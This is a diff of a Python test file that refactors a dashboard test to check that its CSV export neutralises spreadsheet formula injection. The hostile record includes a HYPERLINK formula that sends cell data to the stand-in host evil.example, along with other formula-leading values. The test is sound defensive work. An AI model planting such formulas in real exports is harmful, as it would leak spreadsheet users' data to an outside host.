@@ -18,7 +18,7 @@ import pytest
 
 from collector.config import Config, MqttSettings
 from collector.dashboard.app import Dashboard
-from collector.dashboard.records import spreadsheet_safe
+from collector.dashboard.records import EXPORTS, spreadsheet_safe
 from collector.errors import StoreError
 from collector.people.accounts import DashboardSettings
 from collector.store.base import Row, Store
@@ -232,16 +232,6 @@ def test_messages_and_acknowledgements_of_retained_alerts_from_the_store() -> No
 # -- downloads: CSV injection -----------------------------------------------------------------------
 
 
-class RecordStore(EmptyStore):
-    """Answers every query with the evidence copies of ``records``."""
-
-    def __init__(self, records: list[dict[str, Any]]) -> None:
-        self.records = records
-
-    def iter_query(self, influxql: str) -> Iterator[Row]:
-        return iter([{"payload": json.dumps(r)} for r in self.records])
-
-
 def start(store: Store, **settings: Any) -> Dashboard:
     cfg = Config(mqtt=MqttSettings(port=closed_port(), reconnect_min_delay=5, reconnect_max_delay=5))
     dash = Dashboard(cfg, DashboardSettings(port=0, users=users(), shift_timezone="UTC", **settings), store)
@@ -250,6 +240,8 @@ def start(store: Store, **settings: Any) -> Dashboard:
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
+    """The dashboard's CSV download (``/trace/export?format=csv``) writes through ``EXPORTS``;
+    the HTTP path itself is exercised against a real InfluxDB in the pipeline tests."""
     hostile = record(
         1,
         serial="+HX1",
@@ -260,26 +252,20 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
         deviation="-0.015",
         lsl="-0.5",
     )
-    dash = start(RecordStore([hostile]))
-    try:
-        client = Browserless(dash)
-        client.login("vera", "vera-pw")
-        status, _, body = client.request("GET", "/trace/export?format=csv&lot=x")
-        assert status == 200
-        rows = list(csv.DictReader(io.StringIO(body.decode())))
-        (row,) = rows
-        assert row["operator"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
-        assert row["reason"].startswith("'@SUM") and row["serial"] == "'+HX1"
-        assert not row["lot"].startswith("\t")  # the trace CSV writes control characters visibly
-        assert row["work_order"] == "'-2+3"
-        assert (row["deviation"], row["lsl"]) == ("-0.015", "-0.5")  # plain numbers stay numbers
-        for value in row.values():
-            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
-        # the JSON download is the evidence as it is
-        status, _, body = client.request("GET", "/trace/export?format=json&lot=x")
-        assert json.loads(body)[0]["operator"].startswith("=HYPERLINK")
-    finally:
-        dash.stop()
+    out = io.StringIO()
+    EXPORTS["csv"].write([hostile], out)
+    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["operator"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert row["reason"].startswith("'@SUM") and row["serial"] == "'+HX1"
+    assert not row["lot"].startswith("\t")  # the trace CSV writes control characters visibly
+    assert row["work_order"] == "'-2+3"
+    assert (row["deviation"], row["lsl"]) == ("-0.015", "-0.5")  # plain numbers stay numbers
+    for value in row.values():
+        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+    # the JSON download is the evidence as it is
+    out = io.StringIO()
+    EXPORTS["json"].write([hostile], out)
+    assert json.loads(out.getvalue())[0]["operator"].startswith("=HYPERLINK")
 
 
 @pytest.mark.parametrize(
